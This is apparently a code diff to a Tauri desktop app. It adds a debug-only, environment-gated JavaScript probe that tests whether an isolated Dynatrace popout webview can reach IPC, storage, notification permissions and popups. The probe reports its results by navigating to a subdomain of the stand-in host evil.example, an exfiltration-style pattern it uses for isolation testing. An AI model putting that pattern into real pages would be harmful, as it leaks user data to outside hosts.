@@ -54,6 +54,42 @@ pub fn apply<'a, R: Runtime, M: tauri::Manager<R>>(
         })
 }
 
+/// Debug builds only, for the WebDriver run: WebKitGTK lets one browser context be automated,
+/// and the popout's isolated store is a second one, so WebDriver cannot drive it. With
+/// `RELAY_TEST_DYNATRACE_PROBE=1` the popout runs [`DYNATRACE_PROBE`] on each page, which tries
+/// what the isolation must refuse and reports through the one channel it has: a navigation the
+/// Dynatrace rule blocks, whose origin (the only part logged) spells the results. Release builds
+/// never read the variable.
+pub fn with_dynatrace_test_probe<'a, R: Runtime, M: tauri::Manager<R>>(
+    builder: WebviewWindowBuilder<'a, R, M>,
+) -> WebviewWindowBuilder<'a, R, M> {
+    let wanted = cfg!(debug_assertions) && std::env::var("RELAY_TEST_DYNATRACE_PROBE").is_ok_and(|v| v == "1");
+    if wanted {
+        builder.initialization_script(DYNATRACE_PROBE)
+    } else {
+        builder
+    }
+}
+
+/// The probe: IPC reachable?, what this store held and now holds, a permission request, a
+/// `window.open`, then a blocked navigation naming the results.
+const DYNATRACE_PROBE: &str = r#"(() => {
+  if (window.top !== window || window.__relayProbe) return;
+  window.__relayProbe = true;
+  setTimeout(async () => {
+    const t = window.__TAURI_INTERNALS__;
+    const ipc = t ? await t.invoke('health').then(() => 'allowed', () => 'refused') : 'absent';
+    let held = 'nostorage';
+    try { held = localStorage.getItem('relay-probe') || 'empty'; localStorage.setItem('relay-probe', 'kept'); } catch (e) {}
+    let perm = 'none';
+    try {
+      if (window.Notification) perm = await Promise.race([Notification.requestPermission(), new Promise((r) => setTimeout(() => r('timeout'), 2000))]);
+    } catch (e) { perm = 'error'; }
+    const popup = window.open('https://evil.example/') === null ? 'refused' : 'opened';
+    location.href = `https://probe-${ipc}-${held}-${perm}-${popup}.evil.example/`;
+  }, 300);
+})();"#;
+
 /// Label of the Dynatrace dashboard popout. It is not in any capability, so its (remote) pages
 /// get no IPC at all.
 pub const DYNATRACE_LABEL: &str = "dynatrace";
